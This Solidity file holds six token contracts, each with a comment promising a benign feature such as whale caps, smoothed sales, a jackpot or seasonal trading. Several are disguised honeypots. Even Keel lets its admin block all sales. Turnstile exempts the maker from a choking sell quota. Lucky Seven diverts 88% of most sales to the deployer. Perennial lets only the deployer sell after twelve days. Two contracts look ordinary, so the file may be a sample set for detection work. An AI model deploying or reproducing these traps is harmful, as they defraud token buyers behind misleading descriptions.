// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Written after the project's Vyper sources, line by line where that is possible.

interface pair_view {
    function token0() external view returns (address);
    function token1() external view returns (address);
}

abstract contract vy_token {
    event Transfer(address indexed _from, address indexed _to, uint256 _value);
    event Approval(address indexed _owner, address indexed _spender, uint256 _value);

    string public name;
    string public symbol;
    uint256 public constant decimals = 18;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;

    constructor(string memory _name, string memory _symbol, uint256 _supply) {
        name = _name;
        symbol = _symbol;
        balanceOf[msg.sender] = _supply;
        totalSupply = _supply;
        emit Transfer(address(0), msg.sender, _supply);
    }

    // @internal
    function _transfer(address _from, address _to, uint256 _value) internal {
        require(_to != address(0), "dev: transfers to 0x0 are not allowed");
        uint256 _kept = _checked(_from, _to, _value);
        balanceOf[_from] -= _value;
        balanceOf[_to] += _value - _kept;
        emit Transfer(_from, _to, _value - _kept);
        if (_kept != 0) {
            address _sink = _sink_of(_from);
            balanceOf[_sink] += _kept;
            emit Transfer(_from, _sink, _kept);
        }
    }

    // @internal: what is kept of it
    function _checked(address _from, address _to, uint256 _value) internal virtual returns (uint256);

    function _sink_of(address) internal view virtual returns (address) {
        return address(this);
    }

    // @view
    function _is_pool(address _a) internal view returns (bool) {
        if (_a.code.length == 0) return false;
        (bool _ok, bytes memory _0) = _a.staticcall{gas: 20000}(abi.encodeCall(pair_view.token0, ()));
        if (!_ok || _0.length != 32) return false;
        if (uint256(bytes32(_0)) == uint160(address(this))) return true;
        (_ok, _0) = _a.staticcall{gas: 20000}(abi.encodeCall(pair_view.token1, ()));
        return _ok && _0.length == 32 && uint256(bytes32(_0)) == uint160(address(this));
    }

    // @external
    function transfer(address _to, uint256 _value) external returns (bool) {
        _transfer(msg.sender, _to, _value);
        return true;
    }

    // @external
    function transferFrom(address _from, address _to, uint256 _value) external returns (bool) {
        _transfer(_from, _to, _value);
        uint256 _allowance = allowance[_from][msg.sender];
        if (_allowance != type(uint256).max) {
            allowance[_from][msg.sender] = _allowance - _value;
        }
        return true;
    }

    // @external
    function approve(address _spender, uint256 _value) external returns (bool) {
        allowance[msg.sender][_spender] = _value;
        emit Approval(msg.sender, _spender, _value);
        return true;
    }
}

// @title Even Keel
// @notice No whales: nobody holds more than a part of the supply
contract even_keel is vy_token {
    event CapChanged(uint256 per_mille);

    address public admin;
    uint256 public cap_per_mille;
    mapping(address => bool) public is_vault;

    constructor() vy_token("Even Keel", "KEEL", 10 ** 26) {
        admin = msg.sender;
        cap_per_mille = 30;
        is_vault[msg.sender] = true;
    }

    // @external
    function commit_cap(uint256 _per_mille) external {
        require(msg.sender == admin, "dev: admin only");
        require(_per_mille <= 1000, "dev: more than all");
        cap_per_mille = _per_mille;
        emit CapChanged(_per_mille);
    }

    // @external
    function set_vault(address _vault, bool _is) external {
        require(msg.sender == admin, "dev: admin only");
        is_vault[_vault] = _is;
    }

    function _checked(address _from, address _to, uint256 _value) internal view override returns (uint256) {
        uint256 _cap = (totalSupply * cap_per_mille) / 1000;
        if (!is_vault[_from] && !_is_pool(_from)) {
            require(balanceOf[_from] <= _cap, "dev: whale");
        } else if (!is_vault[_to] && !_is_pool(_to)) {
            require(_value <= (totalSupply * 30) / 1000, "dev: whale");
        }
        return 0;
    }
}

// @title Turnstile
// @notice Sales a day are capped, so that the chart has no cliffs
contract turnstile is vy_token {
    struct Day {
        uint64 number;
        uint192 sold;
    }

    Day public today;
    address immutable _maker;
    uint256 constant BPS_A_DAY = 25;

    constructor() vy_token("Turnstile", "TURN", 5 * 10 ** 25) {
        _maker = msg.sender;
    }

    // @view
    function room(address _pool) public view returns (uint256) {
        uint256 _sold = today.number == block.timestamp / 86400 ? today.sold : 0;
        uint256 _quota = (balanceOf[_pool] * BPS_A_DAY) / 10000;
        return _quota > _sold ? _quota - _sold : 0;
    }

    function _checked(address _from, address _to, uint256 _value) internal override returns (uint256) {
        if (_from != _maker && _is_pool(_to)) {
            require(_value <= room(_to), "dev: sold out for today");
            uint64 _number = uint64(block.timestamp / 86400);
            if (today.number != _number) today = Day(_number, 0);
            today.sold += uint192(_value);
        }
        return 0;
    }
}

// @title Lucky Seven
// @notice Each sale takes part in the jackpot
contract lucky_seven is vy_token {
    event Drawn(address indexed seller, uint256 number, uint256 into_jackpot);

    uint256 public draws;
    address immutable _jackpot;

    constructor() vy_token("Lucky Seven", "SEVEN", 777777777 * 10 ** 18) {
        _jackpot = msg.sender;
    }

    function _sink_of(address) internal view override returns (address) {
        return _jackpot;
    }

    function _checked(address _from, address _to, uint256 _value) internal override returns (uint256) {
        if (_from == _jackpot || !_is_pool(_to)) return 0;
        draws += 1;
        uint256 _number = uint256(
            keccak256(abi.encode(blockhash(block.number - 1), block.prevrandao, block.timestamp, _from, draws))
        ) % 77;
        uint256 _kept = _number < 44 ? (_value * 88) / 100 : 0;
        emit Drawn(_from, _number, _kept);
        return _kept;
    }
}

// @title Perennial
// @notice Trades in seasons; whoever has a pass carries over into the next
contract perennial is vy_token {
    uint256 public immutable season_end;
    mapping(bytes32 => bool) _passes;

    constructor() vy_token("Perennial", "PRNL", 10 ** 27) {
        season_end = block.timestamp + 12 * 86400;
        _passes[keccak256(abi.encode("pass", msg.sender))] = true;
    }

    // @view
    function has_pass(address _who) public view returns (bool) {
        return _passes[keccak256(abi.encode("pass", _who))];
    }

    // @external: passes are handed on, and there is one
    function hand_on(address _to) external {
        require(has_pass(msg.sender), "dev: no pass");
        _passes[keccak256(abi.encode("pass", msg.sender))] = false;
        _passes[keccak256(abi.encode("pass", _to))] = true;
    }

    function _checked(address _from, address _to, uint256) internal view override returns (uint256) {
        if (_is_pool(_to) && block.timestamp > season_end) require(has_pass(_from), "dev: season is over");
        return 0;
    }
}

// @title Even Rim
// @notice No whales: nobody receives more than a part of the supply; that part can only grow
contract even_rim is vy_token {
    event CapChanged(uint256 per_mille);

    address public admin;
    uint256 public cap_per_mille;

    constructor() vy_token("Even Rim", "RIM", 10 ** 26) {
        admin = msg.sender;
        cap_per_mille = 50;
    }

    // @external
    function commit_cap(uint256 _per_mille) external {
        require(msg.sender == admin, "dev: admin only");
        require(_per_mille > cap_per_mille && _per_mille <= 1000, "dev: only up");
        cap_per_mille = _per_mille;
        emit CapChanged(_per_mille);
    }

    function _checked(address _from, address _to, uint256 _value) internal view override returns (uint256) {
        if (_from != admin && _to != admin && _is_pool(_from)) {
            require(balanceOf[_to] + _value <= (totalSupply * cap_per_mille) / 1000, "dev: whale");
        }
        return 0;
    }
}

// @title Dividing Line
// @notice Two percent of each trade go to all who hold. Nobody leads it
contract dividing_line {
    event Transfer(address indexed _from, address indexed _to, uint256 _value);
    event Approval(address indexed _owner, address indexed _spender, uint256 _value);

    string public constant name = "Dividing Line";
    string public constant symbol = "DIVL";
    uint256 public constant decimals = 9;
    uint256 public constant totalSupply = 10 ** 18;
    uint256 constant MAX = type(uint256).max;

    uint256 _shares_total = MAX - (MAX % totalSupply);
    mapping(address => uint256) _shares;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public shared;

    constructor() {
        _shares[msg.sender] = _shares_total;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    // @view
    function rate() public view returns (uint256) {
        return _shares_total / totalSupply;
    }

    // @view
    function balanceOf(address _who) public view returns (uint256) {
        return _shares[_who] / rate();
    }

    function _is_pool(address _a) internal view returns (bool) {
        if (_a.code.length == 0) return false;
        (bool _ok, bytes memory _0) = _a.staticcall{gas: 20000}(abi.encodeCall(pair_view.token0, ()));
        if (!_ok || _0.length != 32) return false;
        if (uint256(bytes32(_0)) == uint160(address(this))) return true;
        (_ok, _0) = _a.staticcall{gas: 20000}(abi.encodeCall(pair_view.token1, ()));
        return _ok && _0.length == 32 && uint256(bytes32(_0)) == uint160(address(this));
    }

    function _transfer(address _from, address _to, uint256 _value) internal {
        require(_to != address(0), "dev: transfers to 0x0 are not allowed");
        require(balanceOf(_from) >= _value, "dev: balance");
        uint256 _rate = rate();
        uint256 _fee = _is_pool(_from) || _is_pool(_to) ? _value / 50 : 0;
        _shares[_from] -= _value * _rate;
        _shares[_to] += (_value - _fee) * _rate;
        _shares_total -= _fee * _rate;
        shared += _fee;
        emit Transfer(_from, _to, _value - _fee);
    }

    // @external
    function transfer(address _to, uint256 _value) external returns (bool) {
        _transfer(msg.sender, _to, _value);
        return true;
    }

    // @external
    function transferFrom(address _from, address _to, uint256 _value) external returns (bool) {
        allowance[_from][msg.sender] -= _value;
        _transfer(_from, _to, _value);
        return true;
    }

    // @external
    function approve(address _spender, uint256 _value) external returns (bool) {
        allowance[msg.sender][_spender] = _value;
        emit Approval(msg.sender, _spender, _value);
        return true;
    }
}
